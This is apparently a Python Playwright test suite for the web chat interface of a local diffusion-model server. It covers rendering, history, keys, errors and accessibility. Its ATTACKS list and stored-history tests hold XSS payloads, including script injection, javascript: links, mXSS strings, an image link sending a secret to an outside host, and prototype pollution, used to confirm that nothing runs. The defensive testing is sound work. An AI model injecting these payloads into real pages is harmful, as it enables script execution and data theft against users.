"""The page in Chromium: what it shows, keeps and survives, and what runs in it: nothing of others.

Answers that no small model would write are put in the place of the server's.
"""

import json
import re
import time
from collections.abc import Callable, Iterator, Sequence
from typing import Any

import httpx
import pytest
from browser import PHONE, WIDE, Problems, chromium, draft, needs_chromium, sse
from gemma import gemma_tokenizer
from random_model import Scripted, scripted
from servers import Server, serving, writing

from mlx_diffgemma import DiffusionGemma, Tokenizer

pytestmark = needs_chromium

CHAT = "**/v1/chat/completions"

Open = Callable[..., Any]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def opened(browser: Any) -> Iterator[Open]:
    """Opens pages, by themselves or in one browser; at the end, none may have had a problem."""
    contexts: list[Any] = []
    problems: list[Problems] = []

    def opened(server: Server, path: str = "/", beside: Any = None, **settings: Any) -> Any:
        context = beside.context if beside else browser.new_context(**{"viewport": WIDE} | settings)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(60_000)
        problems.append(Problems(page, server.url))
        page.goto(server.url + path)
        return page

    yield opened
    found = [each for problem in problems for each in problem.found]
    for context in contexts:
        context.close()
    assert found == []


def expect(locator: Any) -> Any:
    """As Playwright's, with more patience: other tests run beside these."""
    from playwright.sync_api import expect

    expect.set_options(timeout=30_000)
    return expect(locator)


def answer(page: Any, *events: Any, end: bool = True, status: int = 200, **headers: str) -> None:
    """Put a stream in the place of the server's next answers."""
    page.unroute(CHAT)
    kind = {"Content-Type": "text/event-stream", **headers}
    body = sse(*events, end=end)
    page.route(CHAT, lambda route: route.fulfill(status=status, body=body, headers=kind))


def say(page: Any, text: str) -> None:
    page.fill("#message", text)
    page.keyboard.press("Enter")
    expect(page.locator("#send")).to_be_visible(timeout=60_000)


def test_a_canvas_resolves_in_colours(small: Server, opened: Open) -> None:
    """It was flat grey text: nobody saw what was settled and what was a guess."""
    page = opened(small)
    expect(page.locator("#model strong")).to_have_text("tiny")
    page.evaluate(
        """() => { window.seen = new Set(); new MutationObserver(() => {
            for (const each of document.querySelectorAll("#messages .t")) seen.add(each.className);
            seen.add(document.querySelector(".canvas .small")?.textContent);
        }).observe(document.getElementById("messages"), {childList: true, subtree: true}); }"""
    )
    page.click(".example >> text=Make a record")
    expect(page.locator("#send")).to_be_visible(timeout=60_000)
    seen = page.evaluate("[...window.seen].filter(Boolean)")
    assert "t kept" in seen
    assert {"t sure-0", "t sure-1"} & set(seen)
    assert any(each.startswith("step 1 of 48") for each in seen)
    said = page.locator(".model .said").inner_text()
    assert json.loads(said).keys() == {"name", "born", "country"}  # its seed is a new one each time
    assert page.locator(".canvas").count() == 0
    assert re.fullmatch(r"Record: Barth.* · tiny · mlx-diffgemma", page.title())
    page.click("text=Watch again")
    expect(page.locator(".canvas .map i")).to_have_count(64)
    page.click("text=Stop watching")
    assert page.locator(".model .said").inner_text() == said
    page.reload()
    expect(page.locator(".model .said")).to_have_text(said)
    expect(page.locator("#chat-list li")).to_have_count(1)


def test_a_question_before_the_model_is_known(opened: Open) -> None:
    """Its drafts were wiped away once the model's name came."""
    with serving(unsettled) as server:
        page = opened(server)
        held: list[Any] = []
        page.route("**/v1/models", lambda route: held.append(route))
        page.reload()
        page.fill("#message", "hello")
        page.keyboard.press("Enter")
        expect(page.locator(".draft")).to_contain_text("So far")
        held.pop().continue_()
        expect(page.locator("#model strong")).to_have_text("tiny")
        expect(page.locator(".draft")).to_contain_text("So far")


def test_one_of_several_models_answers(fine: Server, opened: Open) -> None:
    """Chats, fills and edits name it; it is still chosen when the page is opened again."""
    page = opened(fine)
    expect(page.locator("#model strong")).to_have_text("tiny")
    assert page.locator("#model select").count() == 0
    (facts,) = httpx.get(f"{fine.url}/v1/models").json()["data"]
    two = [{**facts, "id": name, "canvas_length": i} for i, name in enumerate(("one", "two"))]
    page.route("**/v1/models", lambda route: route.fulfill(json={"data": two}))
    page.reload()
    page.focus("#model select")
    page.keyboard.press("ArrowDown")
    expect(page.locator("#model-lengths")).to_contain_text("canvases of 1")
    expect(page.locator("#model select")).to_be_focused()
    page.reload()
    expect(page.locator("#model select")).to_have_value("two")
    with page.expect_request(CHAT) as asked:
        say(page, "hello")
    assert asked.value.post_data_json["model"] == "two"
    page.click("#tab-edit")
    page.fill("#edit-text", "a")
    page.fill("#edit-instruction", "b")
    with page.expect_request("**/v1/edit") as asked:
        page.click("#edit-go")
    assert asked.value.post_data_json["model"] == "two"


def test_another_chat_while_one_is_written(opened: Open) -> None:
    with serving(unsettled) as server:
        page = opened(server)
        page.fill("#message", "hello")
        page.keyboard.press("Enter")
        expect(page.locator(".draft")).to_contain_text("So far")
        page.click("#chat-new")
        expect(page.locator("#send")).to_be_visible()
        expect(page.locator("#welcome")).to_be_visible()
        page.click("#chat-list .open >> text=hello")
        expect(page.locator(".model .said")).to_contain_text("So far")
        expect(page.locator(".note")).to_contain_text("Stopped.")
        page.get_by_text("Retry").click()
        expect(page.locator(".draft")).to_contain_text("So far")
        page.get_by_label("Delete hello").click()
        expect(page.locator("#send")).to_be_visible()
        expect(page.locator("#chat-list li")).to_have_count(0)


def test_what_may_be_done_with_a_chat(fine: Server, opened: Open) -> None:
    page = opened(fine)
    asked: list[Any] = []
    page.on("request", lambda it: asked.append(it.post_data_json) if it.method == "POST" else None)
    page.click("#settings-open")
    page.fill("#set-system", "Be brief.")
    page.fill("#set-steps", "7")
    page.fill("#set-seed", "3")
    page.click("text=Save")
    say(page, "one <b>&amp;")
    assert asked[-1]["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (asked[-1]["steps"], asked[-1]["seed"]) == (7, 3)
    expect(page.locator(".user .said")).to_have_text("one <b>&amp;")
    say(page, "two")
    roles = [message["role"] for message in asked[-1]["messages"]]
    assert roles == ["system", "user", "assistant", "user"]
    page.locator(".model").last.get_by_text("Retry").click()
    expect(page.locator("#send")).to_be_visible()
    assert asked[-1]["messages"] == asked[-2]["messages"]
    page.locator(".user").first.get_by_text("Edit").click()
    page.keyboard.type("!")
    page.keyboard.press("Enter")
    expect(page.locator(".model .facts")).to_have_count(1)
    assert [m["content"] for m in asked[-1]["messages"]] == ["Be brief.", "one <b>&amp;!"]
    page.click("#chat-new")
    expect(page.locator("#welcome")).to_be_visible()
    say(page, "another")
    expect(page.locator("#chat-list li")).to_have_count(2)
    page.get_by_role("button", name="one <b>&amp;!", exact=True).click()
    expect(page.locator(".user .said")).to_have_text("one <b>&amp;!")
    page.get_by_label("Delete another").click()
    expect(page.locator("#chat-list li")).to_have_count(1)


def test_thoughts_are_folded(opened: Open) -> None:
    with serving(writing("<|channel>thought\nlook<channel|>Wait.")) as server:
        page = opened(server)
        page.click("#settings-open")  # perhaps before it is known whether the model thinks
        page.check("#set-thinking")
        page.click("text=Save")
        say(page, "hello")
        expect(page.locator(".thought .as-it-is")).to_be_hidden()
        page.click(".thought summary")
        expect(page.locator(".thought .as-it-is")).to_have_text("look")
        expect(page.locator(".model .said")).to_have_text("Wait.")


MARKDOWN = """# Title

A *word*, `code`, and [a link](https://example.org/x).

- one
- [x] two

```python
print("<b>")
```

| a | b |
|---|---|
| 1 | 2 |
"""


def test_markdown_and_code_that_can_be_copied(fine: Server, opened: Open) -> None:
    page = opened(fine, permissions=["clipboard-read", "clipboard-write"])
    answer(page, {"content": MARKDOWN})
    say(page, "x")
    said = page.locator(".model .said")
    assert said.locator("h3").inner_text() == "Title"
    assert said.locator("td").all_inner_texts() == ["1", "2"]
    assert "☑ two" in said.inner_text()
    link = said.locator("a")
    assert link.get_attribute("href") == "https://example.org/x"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    said.get_by_label("Copy the code").click()
    expect(said.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == 'print("<b>")'
    page.locator(".model").get_by_label("Copy the answer").click()
    expect(page.locator(".model").get_by_text("Copied")).to_have_count(2)
    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN


ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg><script>window.pwned = 1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=x>'>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>here</a>",
    "[here](javascript:window.pwned=1)",
    "[here](JaVaScRiPt:window.pwned=1)",
    "[here](&#106;avascript:window.pwned=1)",
    "[here](java\nscript:window.pwned=1)",
    "[here](data:text/html,<script>opener.pwned=1</script>)",
    "[here](vbscript:pwned)",
    "[here](//elsewhere.example/x)",
    "<javascript:window.pwned=1>",
    "![x](https://elsewhere.example/steal?q=secret)",
    '![x](x" onerror="window.pwned=1)',
    '[a](https://a.example "" onmouseover="pwned=1")',
    '```"><img src=x onerror=pwned=1>\nx\n```',
    "`</code><script>pwned=1</script>`",
    "<form action='https://elsewhere.example'><input name=q><button>x</button></form>",
    "<style>@import 'https://elsewhere.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<base href='https://elsewhere.example/'>",
    "<p id=messages name=send class=alert style='position:fixed'>x</p>",
    "<details open ontoggle=pwned=1>x</details>",
    "| <img src=x onerror=pwned=1> |\n|---|\n| <script>pwned=1</script> |",
]


def nothing_ran(page: Any) -> None:
    """No tag, attribute or address of the attacks is in the page, and none of them has run."""
    time.sleep(0.2)
    assert page.evaluate("window.pwned === undefined")
    forbidden = (
        "script, img, svg, math, iframe, form, style, link, meta, base, input, [id], [style]"
    )
    for place in (".said", ".as-it-is", ".draft", ".facts", ".note", "#chat-list", "#alert"):
        for each in page.locator(place).all():
            assert each.locator(forbidden).count() == 0
    for each in page.locator("a[href]:not(.skip)").all():
        assert each.get_attribute("href").startswith("https://")  # to be followed, not fetched
    handlers = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
    assert page.evaluate(f"{handlers}.filter(a => a.name.startsWith('on')).length") == 0


def test_nothing_that_a_model_writes_runs_or_is_fetched(fine: Server, opened: Open) -> None:
    page = opened(fine)
    all_of_them = "\n\n".join(ATTACKS)
    tokens = [(each, i % 2 > 0, 0.3) for i, each in enumerate(ATTACKS)]
    answer(page, draft(*tokens), {"reasoning_content": all_of_them}, {"content": all_of_them})
    say(page, all_of_them)
    page.click(".thought summary")
    nothing_ran(page)
    for link in page.locator(".said a").all():
        assert link.get_attribute("target") == "_blank"
    page.reload()
    expect(page.locator(".model .said")).to_be_visible()
    nothing_ran(page)


def test_history_that_others_wrote(fine: Server, opened: Open) -> None:
    page = opened(fine)
    bad = json.dumps(ATTACKS[1])
    said: list[Any] = []
    for each in ATTACKS:  # by itself: what stands before it may hide it
        fields = dict.fromkeys(("content", "thought", "note", "facts"), each)
        said += [{"role": "user", "content": each}, {"role": "assistant", **fields}]
    entries = {
        "a": "{",
        "b": "null",
        "c": bad,
        "d": json.dumps({"messages": [{"role": "assistant", "content": "first"}]}),
        "e": json.dumps({"messages": [None, 3]}),
        "f": json.dumps({"messages": [{"role": "user", "content": {"a": 1}}], "steps": "x"}),
        "<img src=x onerror=pwned=1>": json.dumps(
            {"messages": said, "changed": bad, "system": ATTACKS[1]}
        ),
        "__proto__": json.dumps({"messages": [], "__proto__": {"pwned": 1}}),
    }
    page.evaluate(
        "all => { for (const [k, v] of Object.entries(JSON.parse(all)))"
        " localStorage.setItem('diffgemma.chat.' + k, v); }",
        json.dumps(entries),
    )
    page.reload()
    expect(page.locator("#chat-list li")).to_have_count(3)
    page.locator("#chat-list .open", has_text="window.pwned").click()
    expect(page.locator(".model")).to_have_count(len(ATTACKS))
    nothing_ran(page)
    page.get_by_text("Delete all chats").click()
    expect(page.locator("#chat-list li")).to_have_count(0)


HUGE = [
    "word " * 400_000,
    "x" * 2_000_000,
    "> " * 20_000 + "x",
    "[" * 40_000,
    "*a " * 15_000,
    "`" * 30_001 + "x",
    "|" * 20_000 + "\n" + "-|" * 20_000,
    "- " * 10_000,
    "&" * 90_000,
    "<" * 90_000,
    "![[" * 15_000,
    "\n" * 90_000,
]


def test_huge_answers_leave_the_page_alive(fine: Server, opened: Open) -> None:
    page = opened(fine)
    for text in HUGE:
        answer(page, {"content": text})
        started = time.monotonic()
        say(page, "x")
        page.click("#chat-new")
        expect(page.locator("#welcome")).to_be_visible()
        assert time.monotonic() - started < 60, text[:9]


class Slow(Scripted):
    def decode(self, passes: Sequence[Any], evaluate: Any = None) -> Any:
        time.sleep(0.1)
        return super().decode(passes, evaluate)


def unsettled() -> tuple[DiffusionGemma, Tokenizer]:
    """A model whose canvas never settles behind its first words."""
    tokenizer = gemma_tokenizer()
    model = scripted(kind=Slow)
    model.begin(*[[*tokenizer.encode("So far"), *[None] * 40]] * 9)
    return model, tokenizer


def test_stop_keeps_the_draft(opened: Open) -> None:
    """It threw away all that stood there."""
    with serving(unsettled) as server:
        page = opened(server)
        page.fill("#message", "hello")
        page.keyboard.press("Enter")
        expect(page.locator(".draft")).to_contain_text("So far")
        page.keyboard.press("Escape")
        expect(page.locator(".note")).to_contain_text("Stopped. The end is a draft")
        expect(page.locator(".model .said")).to_contain_text("So far")
        page.reload()
        expect(page.locator(".model .said")).to_contain_text("So far")
        page.fill("#message", "again")
        page.click("#send")
        page.click("#stop")
        expect(page.locator(".note")).to_have_count(2)


@pytest.mark.parametrize(
    ("events", "said"),
    [
        ([draft(("So ", True, 1), ("fat", False, 0.2))], "The connection broke"),
        (["data: {"], "The connection broke"),
        (["data: null", ": a comment", "data: 3", "data: {}"], "The connection broke"),
        (['data: {"error": {"message": "took <b>too</b> long"}}'], "took <b>too</b> long"),
        ([], "The connection broke"),
    ],
)
def test_broken_streams(fine: Server, opened: Open, events: list[str], said: str) -> None:
    page = opened(fine)
    answer(page, *events, end=False)
    say(page, "one")
    expect(page.locator(".note")).to_contain_text(said)
    kept = "So fat" if "draft" in "".join(events) else ""
    assert page.locator(".model .said").inner_text().strip() == kept
    page.unroute(CHAT)
    with page.expect_request(CHAT) as request:
        say(page, "two")
    asked = [each["content"] for each in request.value.post_data_json["messages"]]
    assert asked == (["one", "So fat", "two"] if kept else ["two"])
    page.locator(".model").first.get_by_text("Retry").click()
    expect(page.locator(".model .said")).to_have_text("Fine.")


def test_a_server_that_has_gone_and_comes_back(fine: Server, opened: Open) -> None:
    page = opened(fine)
    page.route(CHAT, lambda route: route.abort("connectionrefused"))
    say(page, "hello")
    expect(page.locator(".note")).to_have_text("The server does not answer. Is it still running?")
    page.unroute(CHAT)
    page.get_by_text("Retry").click()
    expect(page.locator(".model .said")).to_have_text("Fine.")
    answer(page, end=False, status=502)
    say(page, "hello")
    expect(page.locator(".note")).to_have_text("The server answers with status 502.")


def test_a_busy_server_is_asked_again(fine: Server, opened: Open) -> None:
    page = opened(fine)
    tried: list[int] = []

    def refuse(route: Any) -> None:
        tried.append(1)
        if len(tried) > 2:
            route.continue_()
        else:
            route.fulfill(status=429, body="{}", headers={"Retry-After": "1"})

    page.route(CHAT, refuse)
    page.fill("#message", "hello")
    page.keyboard.press("Enter")
    expect(page.locator("#status")).to_have_text("The server is busy; asking again in 1 s.")
    expect(page.locator(".model .said")).to_have_text("Fine.")
    tried.clear()
    page.fill("#message", "hello")
    page.keyboard.press("Enter")
    expect(page.locator("#status")).to_have_text("The server is busy; asking again in 1 s.")
    page.click("#stop")
    expect(page.locator(".note")).to_have_text("Stopped.")


def test_a_server_that_wants_a_key(opened: Open) -> None:
    with serving(writing("Fine."), api_key="schlüssel") as server:
        page = opened(server)
        expect(page.locator("#key-dialog")).to_be_visible()
        page.fill("#key", "wrong")
        page.keyboard.press("Enter")
        expect(page.locator("#key")).to_have_value("")
        page.fill("#key", "schlüssel")
        page.keyboard.press("Enter")
        expect(page.locator("#model strong")).to_have_text("tiny")
        say(page, "hello")
        expect(page.locator(".model .said")).to_have_text("Fine.")
        page.reload()
        expect(page.locator("#model strong")).to_have_text("tiny")
        assert page.evaluate("JSON.stringify(localStorage).includes('schl')") is False
        other = opened(server, "/#key=schl%C3%BCssel")
        expect(other.locator("#model strong")).to_have_text("tiny")
        assert "key" not in other.url
        third = opened(server)
        expect(third.locator("#key-dialog")).to_be_visible()
        third.keyboard.press("Escape")
        third.fill("#message", "hello")
        third.keyboard.press("Enter")  # its question waits for the key
        third.fill("#key", "schlüssel")
        third.click("text=Go on")
        expect(third.locator(".model .said")).to_have_text("Fine.")


def test_two_tabs_lose_nothing_of_each_other(fine: Server, opened: Open) -> None:
    one = opened(fine)
    say(one, "first")
    two = opened(fine, beside=one)
    two.locator("#chat-list .open").click()
    expect(two.locator(".user")).to_have_count(1)
    say(two, "from two")
    expect(one.locator(".user")).to_have_count(2)
    one.route(CHAT, lambda route: None)  # it never answers
    one.fill("#message", "from one")
    one.keyboard.press("Enter")
    expect(two.locator(".user")).to_have_count(3)
    say(two, "beside it")
    one.click("#stop")
    expect(one.locator("#alert")).to_contain_text("another tab")
    expect(one.locator("#chat-list li")).to_have_count(2)
    kept = one.evaluate("Object.values(localStorage).join()")
    assert all(each in kept for each in ("from two", "from one", "beside it"))


def test_history_is_bounded(fine: Server, opened: Open) -> None:
    page = opened(fine)
    page.evaluate(
        """() => { for (let i = 0; i < 130; i++) {
            const messages = [{role: "user", content: `old ${i} ${"x".repeat(9000)}`}];
            localStorage.setItem(`diffgemma.chat.${i}`, JSON.stringify({changed: i, messages}));
        } }"""
    )
    say(page, "new")
    expect(page.locator("#chat-list li")).to_have_count(100)
    page.evaluate(
        """() => { const big = "y".repeat(2_600_000); localStorage.clear();
            localStorage.setItem("other", big);
            localStorage.setItem("another", big.slice(0, 2_500_000)); }"""
    )
    say(page, "z" * 400_000)
    expect(page.locator("#alert")).to_have_text("The browser has no room to keep this chat.")
    expect(page.locator(".model")).to_have_count(2)


def test_fill_and_edit(small: Server, opened: Open) -> None:
    page = opened(small)
    page.click("#tab-fill")
    page.click("#fill-examples >> text=A record")
    page.click("#fill-go")
    expect(page.locator("#fill-result mark")).to_have_text("345", timeout=60_000)
    expect(page.locator("#fill-result .values")).to_have_text("price345")
    page.fill("#fill-template", "no holes")
    page.click("#fill-go")
    expect(page.locator("#fill-status")).to_contain_text("hole")
    page.click("#tab-edit")
    page.click("#edit-examples >> text=A typo")
    page.click("#settings-open")
    page.fill("#set-seed", "0")
    page.click("text=Save")
    page.click("#edit-go")
    expect(page.locator("#edit-result del")).to_have_text("hosue", timeout=60_000)
    expect(page.locator("#edit-result ins")).to_have_text("house")
    page.click("text=Use this text")
    expect(page.locator("#edit-text")).to_have_value("a small house near the river")


def test_the_keyboard_alone(fine: Server, opened: Open) -> None:
    page = opened(fine)
    page.keyboard.press("Shift+Tab")
    page.focus("#tab-chat")
    page.keyboard.press("ArrowRight")
    expect(page.locator("#panel-fill")).to_be_visible()
    page.keyboard.press("End")
    expect(page.locator("#tab-edit")).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#tab-chat")).to_be_focused()
    page.focus("#settings-open")
    page.keyboard.press("Enter")
    expect(page.locator("#set-system")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#settings-open")).to_be_focused()
    page.focus("#message")
    page.keyboard.type("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("b")
    page.keyboard.press("Enter")
    expect(page.locator(".user .said")).to_have_text("a\nb")
    expect(page.locator(".model .facts")).to_be_visible()


@pytest.mark.parametrize(("scheme", "size"), [("light", WIDE), ("dark", PHONE)])
def test_axe_finds_nothing(fine: Server, opened: Open, scheme: str, size: Any) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = opened(fine, viewport=size, color_scheme=scheme, reduced_motion="reduce")

    def check() -> None:
        found = axe.run(page).response["violations"]
        assert [(each["id"], each["nodes"][0]["html"]) for each in found] == []
        wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert wide <= 0

    expect(page.locator(".example").first).to_be_visible()
    check()
    thought = {"reasoning_content": "hm"}
    words = [("a ", True, 1), ("b ", False, 0.1), ("c ", False, 0.5), ("d", False, 0.9)]
    answer(page, thought, {"content": MARKDOWN}, draft(*words), end=False)
    say(page, "a question")
    page.click(".thought summary")
    check()
    answer(page, draft(*words))
    page.route("**/v1/fill", lambda route: None)
    for tab in ("fill", "edit"):
        page.click(f"#tab-{tab}")
        check()
    body = {"text": "a\nc", "denoising_steps": 3, "notes": ["A note."]}
    done = f"data: {json.dumps(body)}"
    page.route("**/v1/edit", lambda route: route.fulfill(body=sse(draft(*words), done)))
    page.fill("#edit-text", "a\nb")
    page.fill("#edit-instruction", "Fix")
    page.click("#edit-go")
    expect(page.locator(".diff")).to_be_visible()
    check()
    page.click("#edit-result >> text=Watch again")
    expect(page.locator("#edit-draft .draft")).to_be_visible()
    page.click("#settings-open")
    check()
    page.keyboard.press("Escape")
    page.click("#tab-chat")
    if size == PHONE:
        page.click("#chats-open")
        check()
